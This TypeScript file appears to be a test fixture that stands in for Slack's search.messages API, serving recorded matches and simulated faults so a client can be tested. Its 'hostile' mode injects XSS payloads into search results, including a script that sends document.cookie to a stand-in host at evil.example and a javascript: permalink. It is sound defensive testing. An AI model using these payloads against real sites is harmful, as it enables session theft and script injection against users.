/**
 * A local stand-in for Slack's Web API method `search.messages` (`POST /api/search.messages`).
 * It is NOT Slack: it searches nothing, it returns the recorded matches in
 * slack-search-messages.json (their shape as Slack documents it: `messages.matches[]` with
 * channel, user, username, ts, text in Slack's markup, permalink; `pagination` and `paging`)
 * limited to the request's `count`, so that the real `@slack/web-api` WebClient can be pointed
 * at it through `slackApiUrl`.
 *
 * What it checks, as Slack does: a token in `Authorization: Bearer` (or a `token` field, which
 * Slack also accepts) that it was given, answering `not_authed` without one, `invalid_auth` for
 * an unknown one and `not_allowed_token_type` for a bot token (search needs a user token); a
 * body form-encoded (what the WebClient sends) or JSON, with a `query`. Slack's failures are
 * HTTP 200 with `{ ok: false, error }`, except rate limits (HTTP 429 with Retry-After). Faults
 * switch on with `fault` (see VendorFault). Every request is recorded in `requests`.
 */
import { readFileSync } from "node:fs";
import type { IncomingMessage, ServerResponse } from "node:http";
import {
  StandInServer,
  bearerToken,
  sendJson,
  sendMalformedJson,
  sendOversizedJson,
  type RecordedVendorRequest,
  type VendorFault,
} from "./stand-in-server.js";

const RECORDED_MATCHES = new URL("./slack-search-messages.json", import.meta.url);

export interface RecordedSlackRequest extends RecordedVendorRequest {
  /** The method's arguments, from the form or JSON body. */
  args: Record<string, string>;
}

export class SlackStandIn {
  readonly requests: RecordedSlackRequest[] = [];
  /** User tokens (xoxp-…) it accepts. */
  readonly userTokens = new Set<string>();
  fault: VendorFault | undefined;
  /** Retry-After, in seconds, on a "rate-limited" answer; null sends the 429 without one. */
  retryAfterSeconds: number | null = 30;
  /** Size of an "oversized" answer. */
  oversizedBytes = 3 * 1024 * 1024;

  private constructor(private readonly server: StandInServer) {}

  static async start(): Promise<SlackStandIn> {
    let standIn: SlackStandIn | undefined;
    const server = await StandInServer.start((request, rawBody, response) => standIn!.handle(request, rawBody, response));
    standIn = new SlackStandIn(server);
    return standIn;
  }

  /** The `slackApiUrl` to give the WebClient. */
  get slackApiUrl(): string {
    return `${this.server.origin}/api/`;
  }

  close(): Promise<void> {
    return this.server.close();
  }

  private handle(request: IncomingMessage, rawBody: string, response: ServerResponse): void {
    const args = parseArguments(request, rawBody);
    this.requests.push({ method: request.method ?? "", path: request.url ?? "", headers: request.headers, rawBody, args });
    if (request.url !== "/api/search.messages") return sendJson(response, 404, { ok: false, error: "unknown_method" });

    const token = bearerToken(request) ?? args.token;
    if (!token) return sendJson(response, 200, { ok: false, error: "not_authed" });
    if (this.fault === "unauthorized" || !this.userTokens.has(token)) return sendJson(response, 200, { ok: false, error: "invalid_auth" });
    if (token.startsWith("xoxb-")) return sendJson(response, 200, { ok: false, error: "not_allowed_token_type" });
    if (!args.query) return sendJson(response, 200, { ok: false, error: "invalid_arguments", response_metadata: { messages: ["[ERROR] missing required field: query"] } });

    const count = Math.min(100, Math.max(1, Number(args.count ?? 20) || 20));
    const answer = JSON.parse(readFileSync(RECORDED_MATCHES, "utf8")) as RecordedSearch;
    answer.query = args.query;
    answer.messages.matches = answer.messages.matches.slice(0, count);
    switch (this.fault) {
      case "hang":
        return this.server.hang(response);
      case "rate-limited":
        return sendJson(response, 429, { ok: false, error: "ratelimited" }, this.retryAfterSeconds === null ? {} : { "retry-after": String(this.retryAfterSeconds) });
      case "internal":
        response.writeHead(500, { "content-type": "text/html" });
        return void response.end("<html><body><h1>500 Internal Server Error</h1></body></html>");
      case "malformed-json":
        return sendMalformedJson(response, answer);
      case "empty":
        answer.messages.matches = [];
        answer.messages.total = 0;
        answer.messages.pagination.total_count = 0;
        answer.messages.paging.total = 0;
        return sendJson(response, 200, answer);
      case "oversized":
        return sendOversizedJson(response, this.oversizedBytes, (padding) => {
          answer.messages.matches[0]!.text = padding;
          return answer;
        });
      case "hostile":
        return sendJson(response, 200, hostile(answer));
      default:
        return sendJson(response, 200, answer);
    }
  }
}

interface RecordedMatch {
  channel: { id: string; name: string; [key: string]: unknown };
  user: string;
  username: string;
  ts: string;
  text: string;
  permalink: string;
  [key: string]: unknown;
}

interface RecordedSearch {
  ok: true;
  query: string;
  messages: {
    total: number;
    pagination: { total_count: number; [key: string]: number };
    paging: { total: number; [key: string]: number };
    matches: RecordedMatch[];
  };
}

/** Matches whose every shown field is hostile, and two that cannot be linked. */
function hostile(answer: RecordedSearch): RecordedSearch {
  const [first, second] = answer.messages.matches;
  answer.messages.matches = [
    {
      ...first!,
      channel: { ...first!.channel, name: "<img src=x onerror=alert(1)>eng-releases" },
      username: "<script>alert('owned')</script>maria\u0000",
      text: "Freeze starts Friday<script>document.location='https://evil.example/?'+document.cookie</script>\u0000 <b onclick=\"alert(1)\">now</b>",
      permalink: "javascript:alert(document.cookie)",
    },
    { ...second!, permalink: "https://acme.slack.com/archives/C03HIJKL4MN/p1735725900000400" },
    // No channel id, and a ts that is not a Slack timestamp: neither can be linked or dated.
    { ...second!, channel: { name: "no-id" } as RecordedMatch["channel"], ts: "1735725900.000401" },
    { ...second!, ts: "yesterday" },
  ];
  answer.messages.total = answer.messages.matches.length;
  return answer;
}

function parseArguments(request: IncomingMessage, rawBody: string): Record<string, string> {
  const type = request.headers["content-type"] ?? "";
  if (type.startsWith("application/json")) {
    try {
      const value = JSON.parse(rawBody) as Record<string, unknown>;
      return Object.fromEntries(Object.entries(value).map(([key, item]) => [key, String(item)]));
    } catch {
      return {};
    }
  }
  return Object.fromEntries(new URLSearchParams(rawBody));
}
